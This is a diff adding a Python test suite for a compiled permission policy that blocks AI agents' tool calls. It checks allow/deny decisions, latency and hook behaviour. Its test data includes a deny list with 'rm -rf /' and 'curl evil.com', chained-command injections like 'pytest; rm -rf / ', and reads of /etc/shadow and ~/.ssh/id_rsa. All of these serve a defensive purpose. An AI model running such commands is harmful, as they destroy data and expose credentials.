@@ -0,0 +1,255 @@
+#!/usr/bin/env python3
+"""
+Test the compiled PreToolUse policy
+Verifies decisions match the policy files, that validation stays
+sub-millisecond with large policies, and that the read-only fast path of
+pre-check.py still applies agent tool sets and forbidden paths
+"""
+
+import json
+import os
+import subprocess
+import sys
+import tempfile
+import time
+from pathlib import Path
+
+PROJECT_ROOT = Path(__file__).parent.parent.parent
+sys.path.insert(0, str(PROJECT_ROOT))
+sys.path.insert(0, str(PROJECT_ROOT / 'test-doom-system'))
+
+from doom import policy  # noqa: E402
+from test_support import run_hook  # noqa: E402
+
+
+def write_policy(project_dir, agents, forbidden_commands, forbidden_paths, hooks=None):
+    """Write JSON-formatted (YAML-compatible) policy sources"""
+    claude_dir = Path(project_dir) / '.claude'
+    claude_dir.mkdir(parents=True, exist_ok=True)
+    permissions = {'agents': agents, 'forbidden_commands': forbidden_commands}
+    if hooks:
+        permissions['hooks'] = hooks
+    with open(claude_dir / 'permissions.yml', 'w') as f:
+        json.dump(permissions, f)
+    with open(claude_dir / 'sandbox-config.yml', 'w') as f:
+        json.dump({'sandbox': {'filesystem': {'forbidden_paths': forbidden_paths}}}, f)
+
+
+def decision_cases(project_dir):
+    """Write a policy covering each table; (agent, tool, tool_input, expected reason) cases for it"""
+    write_policy(
+        project_dir,
+        agents={
+            'agent-bugfix-junior': {
+                'allowed_tools': ['Read', 'Edit', 'Bash'],
+                'allowed_commands': ['npm test', 'git status', 'pytest']
+            }
+        },
+        forbidden_commands=['rm -rf /', 'curl evil.com'],
+        forbidden_paths=['/etc/shadow', '~/.ssh', 'secrets'],
+        hooks={'allowed_commands': ['git', 'make'], 'forbidden_paths': ['/root']}
+    )
+    home = os.path.expanduser('~')
+    return [
+        ('agent-bugfix-junior', 'Write', {'file_path': 'a.py'}, 'not permitted'),
+        ('agent-bugfix-junior', 'Read', {'file_path': '/etc/shadow'}, 'forbidden'),
+        ('agent-bugfix-junior', 'Read', {'file_path': f'{home}/.ssh/id_rsa'}, 'forbidden'),
+        ('agent-bugfix-junior', 'Read', {'file_path': os.path.join(project_dir, 'secrets', 'key')}, 'forbidden'),
+        ('agent-bugfix-junior', 'Read', {'file_path': 'secrets/key'}, 'forbidden'),
+        ('agent-bugfix-junior', 'Grep', {'pattern': 'x'}, 'not permitted'),
+        ('agent-bugfix-junior', 'Read', {'file_path': '/etc/shadow.bak'}, None),
+        ('agent-bugfix-junior', 'Read', {'file_path': 'src/app.py'}, None),
+        ('agent-bugfix-junior', 'Bash', {'command': 'npm test -- --watch'}, None),
+        ('agent-bugfix-junior', 'Bash', {'command': 'npm install left-pad'}, 'whitelist'),
+        ('agent-bugfix-junior', 'Bash', {'command': 'pytest; rm -rf / '}, 'Forbidden command'),
+        ('agent-other', 'Bash', {'command': 'make build'}, None),
+        ('agent-other', 'Bash', {'command': 'git log && curl evil.com/x'}, 'Forbidden command'),
+        ('agent-other', 'Bash', {'command': 'npm publish'}, 'whitelist'),
+        ('agent-other', 'Read', {'file_path': '/root/.bashrc'}, 'forbidden'),
+        ('agent-other', 'Glob', {'pattern': '*.md', 'path': 'secrets'}, 'forbidden'),
+    ]
+
+
+def mismatch(reason, expected):
+    return (expected is None) != (reason is None) or (expected is not None and expected not in reason)
+
+
+def test_decisions(project_dir):
+    """Check allow/deny decisions for each policy table"""
+    print("\n🔐 Testing policy decisions")
+
+    cases = decision_cases(project_dir)
+    compiled = policy.load(project_dir)
+    for agent, tool, tool_input, expected in cases:
+        reason = compiled.check(agent, tool, tool_input)
+        if mismatch(reason, expected):
+            print(f"❌ {tool} {tool_input}: expected {expected!r}, got {reason!r}")
+            return False
+
+    print(f"✅ {len(cases)} decisions correct")
+    return True
+
+
+def test_hook_decisions(project_dir):
+    """pre-check.py reaches the same decisions end to end, whichever path the hook takes"""
+    print("\n🪝 Testing policy decisions through pre-check.py")
+
+    cases = decision_cases(project_dir)
+    for agent, tool, tool_input, expected in cases:
+        result = run_hook(project_dir, 'pre-check.py', {'tool_name': tool, 'tool_input': tool_input},
+                          DOOM_AGENT_NAME=agent)
+        reason = json.loads(result.stdout).get('reason') if result.stdout.strip() else None
+        if result.returncode != 0 or mismatch(reason, expected):
+            print(f"❌ {agent} {tool} {tool_input}: expected {expected!r}, got rc={result.returncode} {reason!r}")
+            return False
+
+    print(f"✅ {len(cases)} hook decisions match policy.check")
+    return True
+
+
+def test_recompile_on_change(project_dir):
+    """Editing a source file must invalidate the artifact"""
+    print("\n♻️  Testing artifact invalidation")
+
+    write_policy(project_dir, {}, ['rm -rf /'], ['/etc/shadow'])
+    policy.load(project_dir)
+    time.sleep(0.01)
+    write_policy(project_dir, {}, ['shutdown now'], ['/etc/shadow'])
+
+    reason = policy.load(project_dir).check(None, 'Bash', {'command': 'sudo shutdown now'})
+    if reason and 'shutdown now' in reason:
+        print("✅ Stale artifact rebuilt")
+        return True
+    print(f"❌ Artifact not rebuilt: {reason}")
+    return False
+
+
+def test_large_policy_latency(project_dir):
+    """Validation must stay under a millisecond with large policy files"""
+    print("\n⏱️  Testing validation latency with a large policy")
+
+    agents = {
+        f'agent-{i}': {
+            'allowed_tools': ['Read', 'Edit', 'Bash', f'Tool{i}'],
+            'allowed_commands': [f'cmd{i} sub{j}' for j in range(50)] + ['npm test']
+        }
+        for i in range(500)
+    }
+    forbidden_commands = [f'danger-{i} --force' for i in range(5000)] + ['rm -rf /']
+    forbidden_paths = [f'/srv/data/tenant-{i}/private' for i in range(20000)] + ['/etc/shadow']
+    write_policy(project_dir, agents, forbidden_commands, forbidden_paths)
+
+    policy.load(project_dir)  # compile once
+
+    start = time.perf_counter()
+    compiled = policy.load(project_dir)
+    load_ms = (time.perf_counter() - start) * 1000
+
+    calls = [
+        ('agent-250', 'Bash', {'command': 'npm test -- --coverage --reporter=dot ' + 'x' * 200}),
+        ('agent-250', 'Read', {'file_path': '/srv/data/tenant-19999/private/db.sqlite'}),
+        ('agent-250', 'Edit', {'file_path': os.path.join(project_dir, 'src', 'deep', 'module.py')}),
+        ('agent-499', 'Bash', {'command': 'cmd499 sub49 --verbose'}),
+    ]
+    iterations = 2000
+    start = time.perf_counter()
+    for _ in range(iterations):
+        for agent, tool, tool_input in calls:
+            compiled.check(agent, tool, tool_input)
+    per_call_ms = (time.perf_counter() - start) * 1000 / (iterations * len(calls))
+
+    print(f"   - Artifact load: {load_ms:.1f} ms, per-call validation: {per_call_ms * 1000:.1f} us")
+    if per_call_ms >= 1.0:
+        print("❌ Validation slower than 1 ms")
+        return False
+    print("✅ Sub-millisecond validation")
+    return True
+
+
+def test_hook_blocks(project_dir):
+    """The PreToolUse hook should emit a block decision through the compiled policy"""
+    print("\n🪝 Testing pre-check hook with compiled policy")
+
+    write_policy(project_dir, {}, ['rm -rf /'], ['/etc/shadow'])
+    env = os.environ.copy()
+    env['CLAUDE_PROJECT_DIR'] = project_dir
+    env['DOOM_ENABLED'] = 'true'
+
+    result = subprocess.run(
+        ['python3', str(PROJECT_ROOT / '.claude' / 'hooks' / 'pre-check.py')],
+        input=json.dumps({'tool_name': 'Bash', 'tool_input': {'command': 'rm -rf / --no-preserve-root'}}),
+        capture_output=True,
+        text=True,
+        env=env
+    )
+    try:
+        decision = json.loads(result.stdout)
+    except json.JSONDecodeError:
+        print(f"❌ Unexpected hook output: {result.stdout!r} {result.stderr[-300:]}")
+        return False
+
+    if decision.get('decision') == 'block':
+        print("✅ Hook blocked forbidden command")
+        return True
+    print(f"❌ Hook did not block: {decision}")
+    return False
+
+
+def test_fast_path_policy(project_dir):
+    """Read-only tools inside the project still meet agent tool sets and forbidden paths"""
+    print("\n🚦 Testing the read-only fast path against the policy")
+
+    write_policy(project_dir, {'agent-x': {'allowed_tools': ['Edit']}}, ['rm -rf /'], ['secrets'])
+    cases = [
+        ('agent-x', 'Read', {'file_path': 'src/app.py'}, 'not permitted'),
+        ('agent-other', 'Read', {'file_path': 'secrets/key'}, 'forbidden'),
+        ('agent-other', 'Grep', {'pattern': 'token', 'path': os.path.join(project_dir, 'secrets')}, 'forbidden'),
+        ('agent-other', 'Read', {'file_path': 'src/app.py'}, None),
+    ]
+    for agent, tool, tool_input, expected in cases:
+        result = run_hook(project_dir, 'pre-check.py', {'tool_name': tool, 'tool_input': tool_input},
+                          DOOM_AGENT_NAME=agent)
+        reason = json.loads(result.stdout).get('reason') if result.stdout.strip() else None
+        if result.returncode != 0 or mismatch(reason, expected):
+            print(f"❌ {agent} {tool} {tool_input}: expected {expected!r}, got rc={result.returncode} {reason!r}")
+            return False
+
+    # The agent of the current task pointer counts as well
+    tasks = Path(project_dir) / '.claude' / 'tasks'
+    tasks.mkdir(parents=True)
+    (tasks / 'current.json').write_text(json.dumps({'task_id': 'bugfix-1', 'agent_name': 'agent-x'}))
+    result = run_hook(project_dir, 'pre-check.py', {'tool_name': 'Glob', 'tool_input': {'pattern': '*.py'}})
+    if 'not permitted for agent-x' not in result.stdout:
+        print(f"❌ Glob by the current task's agent should be blocked: {result.stdout!r}")
+        return False
+    print(f"✅ {len(cases) + 1} read-only calls decided as by policy.check")
+    return True
+
+
+def main():
+    """Run compiled policy tests"""
+    print("🧪 Testing Compiled PreToolUse Policy\n")
+
+    tests = [test_decisions, test_hook_decisions, test_recompile_on_change, test_large_policy_latency,
+             test_hook_blocks, test_fast_path_policy]
+    passed = 0
+    failed = 0
+
+    for test in tests:
+        with tempfile.TemporaryDirectory() as project_dir:
+            try:
+                if test(project_dir):
+                    passed += 1
+                else:
+                    failed += 1
+            except Exception as e:
+                print(f"❌ {test.__name__} failed with error: {e}")
+                failed += 1
+
+    print(f"\n📊 Results: {passed} passed, {failed} failed out of {len(tests)} tests")
+
+    return 0 if failed == 0 else 1
+
+
+if __name__ == "__main__":
+    sys.exit(main())